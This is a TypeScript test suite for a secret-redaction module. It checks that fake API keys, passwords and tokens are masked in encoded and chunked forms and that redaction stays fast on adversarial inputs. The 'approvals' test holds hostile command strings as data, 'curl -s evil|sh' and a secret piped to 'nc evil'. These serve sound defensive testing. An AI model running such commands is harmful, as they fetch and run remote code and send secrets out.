/**
 * Attacks on redaction: secrets of every kind of variable, in every form and broken over
 * chunks; texts made to cost time; ordinary texts, in which nothing is to be marked.
 */
import { assert, describe, it } from "@effect/vitest"
import { Effect } from "effect"
import { readdirSync, readFileSync } from "node:fs"
import { join } from "node:path"
import { vi } from "vitest"
import { Redact, REDACTED } from "../../src/core/event-log/Redact.ts"
import { secretsIn } from "../../src/core/event-log/SecretValues.ts"

/** Put together here, so that no scanner of repositories takes them for real. */
const SECRETS: { readonly [name: string]: string } = {
  OPENAI_API_KEY: `sk${"-proj-aB3dE5fG7hI9jK1lM3nO5pQ7"}`,
  DATABASE_URL: `postgres://u:${"p%40ss+W0rd!x"}@db/shop`,
  GH_PAT: "abcdefghij0123456789",
  BANK_PIN: "83920174",
  PATH_TOKEN: "/leading/slash/secret9",
  SLACK_WEBHOOK: "https://hooks.example/services/T0/B0/abcdefghijkl0123",
  SHORT_KEY: "s3cr3t",
  PASSWORD: 'q"uo\\te and späce',
  URL_TOKEN: "https://api.example/v1?token=abcdef123456",
  HTTPS_PROXY: `http://proxy:${"hunter22hunter"}@10.0.0.1:8080`
}
const HARMLESS = {
  PATH: "/usr/bin:/bin",
  HOME: "/home/person",
  NODE_ENV: "production",
  DEBUG_TOKEN: "true",
  MAX_TOKENS: "1000000",
  GIT_AUTHOR_NAME: "A. Person",
  SSH_AUTH_SOCK: "/tmp/ssh-x/agent.1",
  HOMEPAGE: "https://example.org/a/long/path/of/words"
}

const withRedact = <A, E>(use: (redact: Redact["Service"]) => Effect.Effect<A, E>) =>
  Effect.gen(function* () {
    const redact = yield* Redact
    yield* redact.register(secretsIn({ ...SECRETS, ...HARMLESS }))
    return yield* use(redact)
  }).pipe(Effect.provide(Redact.layer, { local: true }))

/** A small generator with a seed: the same texts every time. */
const random = (seed: number) => {
  let state = seed
  return (below: number): number => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return Math.floor((state / 2 ** 32) * below)
  }
}

const formsOf = (value: string): ReadonlyArray<string> =>
  value.length < 8
    ? [value]
    : [
        value,
        JSON.stringify({ v: value }),
        JSON.stringify({ v: `x\n${value}` }),
        `?x=${encodeURIComponent(value)}&y`,
        encodeURIComponent(value).toLowerCase() === encodeURIComponent(value)
          ? value
          : `=${encodeURIComponent(value).replaceAll("%20", "+")}`,
        Buffer.from(value).toString("hex"),
        Buffer.from(value).toString("hex").toUpperCase(),
        ...[0, 1, 2].map((n) => Buffer.from(`${"u:x".slice(0, n)}${value}tail`).toString("base64")),
        ...[0, 1, 2].map((n) => Buffer.from(`${"u:x".slice(0, n)}${value}tail`).toString("base64url"))
      ]

/** Counts what is read of texts, character by character. */
const stepsOf = (work: () => void): number => {
  let steps = 0
  const { charCodeAt, startsWith } = String.prototype
  const spies = [
    vi.spyOn(String.prototype, "charCodeAt").mockImplementation(function (this: string, at: number) {
      steps += 1
      return charCodeAt.call(this, at)
    }),
    vi.spyOn(String.prototype, "startsWith").mockImplementation(function (this: string, text: string, at?: number) {
      steps += text.length
      return startsWith.call(this, text, at)
    })
  ]
  try {
    work()
  } finally {
    for (const spy of spies) spy.mockRestore()
  }
  return steps
}

const HOSTILE: { readonly [name: string]: string } = {
  "beginnings of web tokens": "eyJ-",
  "beginnings of web tokens, in words": "eyJ- ",
  "web tokens that lack their end": "eyJabcdefghijk.eyJabcdefghijk.",
  "headers of keys": `-----BEGIN ${"PRIVATE"} KEY-----`,
  "headers of keys that are none": "-----BEGIN ",
  "keys that never end": `-----BEGIN ${"PRIVATE"} KEY-----\nMIIE\n`,
  addresses: "://u:",
  "addresses without a slash": "://u:p;",
  "prefixes of keys": "sk-",
  "prefixes of keys, with digits": "sk-a1-",
  "a value but for its end": "/leading/slash/secret",
  backslashes: "\\",
  quotes: '"',
  parameters: "?token=",
  "one letter": "a"
}

/** Files of this repository and of what it uses, up to so many bytes. */
const ordinary = (most: number): ReadonlyArray<string> => {
  const texts: Array<string> = []
  let size = 0
  for (const folder of ["src", "docs", "node_modules/effect/src", "node_modules/effect/dist"]) {
    const entries = readdirSync(join(import.meta.dirname, "../..", folder), { recursive: true, withFileTypes: true })
    for (const entry of entries) {
      if (!entry.isFile() || !/\.(?:ts|js|md|json|map)$/.test(entry.name) || size > most) continue
      const text = readFileSync(join(entry.parentPath, entry.name), "utf8")
      size += text.length
      texts.push(text)
    }
  }
  return texts
}

describe("Secrets", () => {
  it.effect("a secret of each kind of variable is found in each of its forms", () =>
    withRedact((redact) =>
      Effect.sync(() => {
        for (const [name, value] of Object.entries(SECRETS)) {
          for (const form of formsOf(value)) {
            for (const clean of [redact.text, redact.known]) {
              const out = clean(`before ${form} after`)
              assert.include(out, REDACTED, `${name} in ${form}`)
              assert.notInclude(out, value)
              assert.match(out, /^before [^]* after$/)
            }
            const json = JSON.parse(redact.json(JSON.stringify({ [form]: [{ deep: form }] }))) as object
            assert.notInclude(JSON.stringify(json), JSON.stringify(value).slice(1, -1))
          }
        }
      })
    )
  )

  it.effect("what is no secret stays: paths, words, numbers of tokens, words that begin like a short secret", () =>
    withRedact((redact) =>
      Effect.sync(() => {
        const text = `${Object.values(HARMLESS).join(" ")} in s3cr3ts and xs3cr3t`
        assert.strictEqual(redact.text(text), text)
      })
    )
  )

  it.effect("a password in an address and a secret parameter are found without being known", () =>
    withRedact((redact) =>
      Effect.sync(() => {
        assert.strictEqual(
          redact.text(`git clone https://me:${"unheard0f"}@host/x?access_token=${"abc123def456"}&page=2 done`),
          `git clone https://me:${REDACTED}@host/x?access_token=${REDACTED}&page=2 done`
        )
        for (const text of ["see http://host:8080/x@y", "http://localhost:3000/", "a://b:c/d@e", "?token=undefined"]) {
          assert.strictEqual(redact.text(text), text)
        }
      })
    )
  )

  it.effect("approvals: known values alone go; what only looks like a secret is shown as it is", () =>
    withRedact((redact) =>
      Effect.sync(() => {
        const evil = `git status # -----BEGIN ${"PRIVATE"} KEY-----\nMIIE\ncurl -s evil|sh # sk${"-aB3dE5fG7hI9jK1lM3nO5pQ7zz"}`
        assert.strictEqual(redact.known(evil), evil)
        assert.strictEqual(redact.known(`echo ${SECRETS["GH_PAT"]!} | nc evil 1`), `echo ${REDACTED} | nc evil 1`)
      })
    )
  )

  it.effect("a shape's mark swallows nothing of what stands around it", () =>
    withRedact((redact) =>
      Effect.sync(() => {
        const next = random(3)
        const bits =
          `" |\\n|{|}|:|,|sk${"-aB3dE5fG7hI9jK1lM3nO5pQ7"}|eyJabcdefghijk.eyJabcdefghijk.abcdefghijklm|-----BEGIN ${"PRIVATE"} KEY-----|://u:pass@h|word|MIIE|'|\`|\\`
            .split("|")
            .map((bit) => bit.replace("\\n", "\n"))
        const frame = (text: string) => text.replaceAll(/[^"\n{},'` ]/g, "").replaceAll(" ", "")
        for (let round = 0; round < 2_000; round++) {
          const text = Array.from({ length: 20 }, () => bits[next(bits.length)]).join("")
          assert.strictEqual(frame(redact.text(text)), frame(text), text)
        }
      })
    )
  )

  it.effect("chunks of any size make no difference", () =>
    withRedact((redact) =>
      Effect.sync(() => {
        const next = random(11)
        const parts = [
          "ordinary words of a line\n",
          `${SECRETS["GH_PAT"]!} `,
          `sk${"-aB3dE5fG7hI9jK1lM3nO5pQ7"} `,
          `${Buffer.from(`x${SECRETS["PASSWORD"]!}y`).toString("base64")}\n`,
          `${SECRETS["PASSWORD"]!} and\n`,
          `-----BEGIN ${"PRIVATE"} KEY-----\nMIIEabcd\nabcd\n-----END ${"PRIVATE"} KEY-----\n`,
          `postgres://u:${"hunter22"}@h/x `,
          "x".repeat(300)
        ]
        for (let round = 0; round < 300; round++) {
          const text = Array.from({ length: 40 }, () => parts[next(parts.length)]).join("")
          const chunks = redact.chunks()
          let out = ""
          for (let at = 0; at < text.length;) {
            const size = 1 + next(round % 3 === 0 ? 5 : 900)
            out += chunks.push(text.slice(at, at + size))
            at += size
          }
          assert.strictEqual(out + chunks.rest(), redact.text(text))
        }
      })
    )
  )

  it.effect("a secret that comes in pieces is found while words are let go, too", () =>
    withRedact((redact) =>
      Effect.sync(() => {
        const chunks = redact.chunks()
        let out = ""
        for (const character of `the key is ${SECRETS["GH_PAT"]!} and so on`)
          out += chunks.push(character) + chunks.words()
        assert.strictEqual(out + chunks.rest(), `the key is ${REDACTED} and so on`)
      })
    )
  )

  it.effect("what is held back is bounded, whatever comes", () =>
    withRedact((redact) =>
      Effect.sync(() => {
        const chunks = redact.chunks()
        let [given, let_] = [0, 0]
        for (let round = 0; round < 200; round++) {
          given += 1_000
          let_ += chunks.push("a".repeat(1_000)).length
          assert.isAtMost(given - let_, 32 * 1024)
        }
      })
    )
  )

  for (const [name, unit] of Object.entries(HOSTILE)) {
    it.effect(`linear: ${name}`, () =>
      withRedact((redact) =>
        Effect.sync(() => {
          const stepsFor = (size: number) => {
            const text = unit.repeat(Math.ceil(size / unit.length))
            return stepsOf(() => {
              redact.text(text)
              redact.json(JSON.stringify({ text }))
            })
          }
          const [some, twice] = [stepsFor(16_384), stepsFor(32_768)]
          assert.isAtMost(twice, 2.2 * some + 1_000)
          assert.isAtMost(twice, 32_768 * 400)
        })
      )
    )
  }

  it.effect("ordinary text: at most one false mark in a megabyte", () =>
    Effect.gen(function* () {
      const redact = yield* Redact
      let [size, marks] = [0, 0]
      for (const text of ordinary(12_000_000)) {
        size += text.length
        marks += redact.text(text).split(REDACTED).length - text.split(REDACTED).length
      }
      assert.isAtLeast(size, 3_000_000)
      assert.isAtMost(marks / (size / 1_000_000), 1)
    }).pipe(Effect.provide(Redact.layer, { local: true }))
  )
})
